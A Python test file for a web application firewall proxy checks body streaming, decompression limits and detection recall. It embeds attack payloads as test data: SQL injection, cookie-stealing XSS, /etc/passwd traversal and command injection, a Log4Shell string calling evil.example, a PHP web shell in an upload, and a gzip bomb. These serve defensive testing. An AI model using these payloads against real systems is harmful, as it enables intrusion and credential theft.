"""The pure parts: ``engine.bodystream`` (windows, carry, cap, policy), ``engine.bodycodec`` (caps),
``engine.bodytriggers`` (recall against the managed groups on the tests/rules payloads)."""

from __future__ import annotations

import gzip
import json
import zlib
from urllib.parse import quote_plus

import pytest

from wafproxy.engine.bodycodec import (
    BodyDecoder,
    DecodeLimits,
    DecompressionRefused,
    UnsupportedEncoding,
    encoding_of,
)
from wafproxy.engine.bodyregions import lift_json_strings
from wafproxy.engine.bodystream import (
    OVER_CAP_RULE_ID,
    BodyStream,
    StreamPolicy,
    stream_plan,
)
from wafproxy.engine.compiler import CompiledWebACL
from wafproxy.engine.decision import Action, Decision
from wafproxy.engine.evaluation import evaluate
from wafproxy.engine.request import WafRequest

FORM = "application/x-www-form-urlencoded"


def head(body: bytes, ctype: str = FORM) -> WafRequest:
    return WafRequest(client_ip="192.0.2.9", method="POST", uri_path="/submit", query_string="",
                      headers=(("host", "app"), ("user-agent", "t"), ("content-type", ctype)),
                      body=body, body_size=len(body) + 1)


def pad(size: int) -> bytes:
    words = (b"alpha", b"bravo", b"charlie", b"delta", b"echo", b"golf", b"hotel", b"kilo")
    out = bytearray(b"note=")
    i = 0
    while len(out) < size:
        out += words[(i * 7) % len(words)] + b"+"
        i += 1
    return bytes(out[:size])


def run(acl: CompiledWebACL, body: bytes, piece: int, policy: StreamPolicy | None = None,
        ctype: str = FORM) -> tuple[Decision | None, BodyStream]:
    plan = stream_plan(acl)
    assert plan is not None
    stream = BodyStream(plan, policy or StreamPolicy(), head(body[:16384], ctype))
    for at in range(16384, len(body), piece):
        found = stream.feed(body[at:at + piece])
        assert stream.pending < stream.policy.window + piece  # bounded: never the whole body
        if found is not None:
            return found, stream
    return stream.finish(), stream


ATTACKS = [
    b"&q=1%27+UNION+SELECT+password+FROM+users--+-",
    b"&c=<script>alert(document.cookie)</script>",
    b"&f=..%2F..%2F..%2Fetc%2Fpasswd",
    b"&cmd=%3Bcat+%2Fetc%2Fpasswd",
    b"&x=%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D",
]


@pytest.mark.parametrize("attack", ATTACKS)
@pytest.mark.parametrize("offset", [20_000, 70_000, 300_000])
def test_attack_found_at_any_offset_named_by_its_managed_rule(acl: CompiledWebACL, attack: bytes,
                                                              offset: int) -> None:
    found, _ = run(acl, pad(offset) + attack + b"&z=" + pad(5000), piece=4096)
    assert found is not None and found.action is Action.BLOCK
    assert found.terminating_rule_id.startswith("WafproxyManagedRules")
    assert found.terminating_rule_group


@pytest.mark.parametrize("split", range(1, 40, 6))
def test_payload_split_across_chunks_and_windows(acl: CompiledWebACL, split: int) -> None:
    attack = b"&c=<script>alert(document.cookie)</script>"
    # The attack starts just before a window boundary (16 KB first window + 64 KB scanned window).
    body = pad(16384 + 65536 - split) + attack + b"&z=1"
    found, _ = run(acl, body, piece=16384 + 65536 - split - 16384 + split // 2 or 1)
    assert found is not None


def test_benign_megabyte_is_not_refused_and_costs_no_rule_evaluation(acl: CompiledWebACL) -> None:
    found, stream = run(acl, pad(1 << 20), piece=8192)
    assert found is None
    assert stream.confirms == 0 and stream.scans > 100


def test_over_the_cap_continue_and_match(acl: CompiledWebACL) -> None:
    body = pad(200_000) + ATTACKS[0]
    small = StreamPolicy(cap=100_000)
    assert run(acl, body, 8192, small)[0] is None  # CONTINUE: the part past the cap is not read
    found, _ = run(acl, body, 8192, StreamPolicy(cap=100_000, oversize="MATCH"))
    assert found is not None and found.terminating_rule_id == OVER_CAP_RULE_ID
    assert run(acl, pad(90_000), 8192, StreamPolicy(cap=100_000, oversize="MATCH"))[0] is None


def test_uploads_use_the_upload_policy(acl: CompiledWebACL) -> None:
    ctype = "multipart/form-data; boundary=xyz"
    part = b"\r\n--xyz\r\nContent-Disposition: form-data; name=f; filename=%b\r\n\r\n%b"
    shell = part % (b"a.php", b"<?php system($_GET['c']); ?>")
    assert run(acl, pad(60_000) + shell, 8192, ctype=ctype)[0] is not None
    # SQL words in an uploaded document are data: the upload policy does not look for them.
    sql = part % (b"a.txt", b"select * from t where a = 1 or 1=1")
    assert run(acl, pad(60_000) + sql, 8192, ctype=ctype)[0] is None


def test_json_tail_strings_are_seen_unescaped(acl: CompiledWebACL) -> None:
    items = [{"id": i, "text": "plain words here"} for i in range(2000)]
    items.append({"id": -1, "text": "\u003cscript\u003ealert(document.cookie)\u003c/script\u003e"})
    body = json.dumps(items, ensure_ascii=True).replace("<", "\\u003c").replace(">", "\\u003e").encode()
    assert b"<script" not in body
    found, _ = run(acl, body, 8192, ctype="application/json")
    assert found is not None


def test_lift_json_strings_starts_at_a_real_string() -> None:
    tail = b'ab", "x": "a\\"b <\\u0073cript>", "y": 1, "z": "cut'
    assert list(json.loads(lift_json_strings(tail)).values()) == ["x", 'a"b <script>', "y", "z"]
    assert lift_json_strings(b"no strings here") == b"{}"
    assert json.loads(lift_json_strings(tail, lambda s: b"<" in s)) == {"0": 'a"b <script>'}


def test_policy_validation() -> None:
    with pytest.raises(ValueError):
        StreamPolicy(cap=-1)
    with pytest.raises(ValueError):
        StreamPolicy(oversize="DROP")  # type: ignore[arg-type]
    with pytest.raises(ValueError):
        StreamPolicy(block=1024, context=2048)


# ---- bodycodec ------------------------------------------------------------------------------------

def decode_all(encoding: str, data: bytes, limits: DecodeLimits, piece: int = 4096) -> bytes:
    dec = BodyDecoder(encoding, limits)
    out = b"".join(dec.feed(data[at:at + piece]) for at in range(0, len(data), piece))
    return out + dec.finish()


@pytest.mark.parametrize("encoding,compress", [
    ("gzip", gzip.compress), ("x-gzip", gzip.compress), ("deflate", zlib.compress),
    ("deflate", lambda d: zlib.compress(d)[2:-4]),  # raw deflate under "deflate"
])
def test_decoders_round_trip(encoding: str, compress, ) -> None:
    data = pad(300_000)
    assert decode_all(encoding, compress(data), DecodeLimits(max_size=1 << 20, max_ratio=1000)) == data


def test_bomb_refused_by_size_and_by_ratio() -> None:
    bomb = gzip.compress(b"\0" * (8 << 20))
    with pytest.raises(DecompressionRefused, match="over"):
        decode_all("gzip", bomb, DecodeLimits(max_size=1 << 20, max_ratio=10_000))
    with pytest.raises(DecompressionRefused, match="ratio"):
        decode_all("gzip", bomb, DecodeLimits(max_size=64 << 20, max_ratio=100))


def test_bomb_never_produces_more_than_a_step_past_the_cap() -> None:
    dec = BodyDecoder("gzip", DecodeLimits(max_size=1 << 20, max_ratio=1 << 30))
    produced = 0
    with pytest.raises(DecompressionRefused):
        produced += len(dec.feed(gzip.compress(b"\0" * (64 << 20))))
    assert dec.produced <= (1 << 20) + 64 * 1024


def test_corrupt_and_unknown_encodings() -> None:
    with pytest.raises(DecompressionRefused):
        decode_all("gzip", b"\x1f\x8bnot gzip at all", DecodeLimits())
    with pytest.raises(UnsupportedEncoding):
        BodyDecoder("zstd", DecodeLimits())
    assert encoding_of(()) == "identity"
    assert encoding_of(("identity",)) == "identity"
    assert encoding_of((" GZip ",)) == "gzip"
    with pytest.raises(UnsupportedEncoding):
        encoding_of(("gzip, deflate",))


def test_trigger_recall_on_the_rules_payloads(acl: CompiledWebACL) -> None:
    """Every tests/rules should-block payload the managed groups block as a form body is found by
    the streamed scan past 100 KB of padding (the triggers cover what the rules catch)."""
    from tests.rules.cases import CASES

    plan = stream_plan(acl)
    assert plan is not None
    blocked = missed = 0
    misses = []
    for case in CASES:
        for text in case.block:
            body = b"note=hello&q=" + quote_plus(text).encode() + b"&z=1"
            if evaluate(plan.acl, head(body)).action is not Action.BLOCK:
                continue
            blocked += 1
            if run(acl, pad(100_000) + b"&" + body, 16384)[0] is None:
                missed += 1
                misses.append((case.rule_class, text))
    assert blocked > 300
    assert missed / blocked <= 0.01, misses


def test_binary_upload_passes_but_a_shell_in_it_does_not(acl: CompiledWebACL) -> None:
    """Random bytes (an image, an archive) are not markup; a PHP shell hidden among them is."""
    import random

    rnd = random.Random(5)
    blob = bytes(rnd.getrandbits(8) for _ in range(1 << 20))
    ctype = "application/octet-stream"
    assert run(acl, blob, 16384, ctype=ctype)[0] is None
    shell = blob[:400_000] + b"<?php system($_GET['c']); ?>" + blob[400_000:500_000]
    assert run(acl, shell, 16384, ctype=ctype)[0] is not None


def test_brotli_without_the_package_is_an_unsupported_encoding() -> None:
    try:
        import brotli  # noqa: F401
    except ImportError:
        with pytest.raises(UnsupportedEncoding, match="brotli"):
            BodyDecoder("br", DecodeLimits())
    else:

        data = pad(200_000)
        assert decode_all("br", brotli.compress(data), DecodeLimits(max_ratio=1000)) == data


def test_every_gzip_member_is_decoded() -> None:
    """gzip(benign) + gzip(attack): decoders read every member, so the WAF must too."""
    data = gzip.compress(b"harmless text ") + gzip.compress(b"<script>alert(1)</script>")
    for piece in (3, 4096):
        assert decode_all("gzip", data, DecodeLimits(), piece) == b"harmless text <script>alert(1)</script>"
    with pytest.raises(DecompressionRefused):
        decode_all("deflate", zlib.compress(b"a") + b"trailing", DecodeLimits())
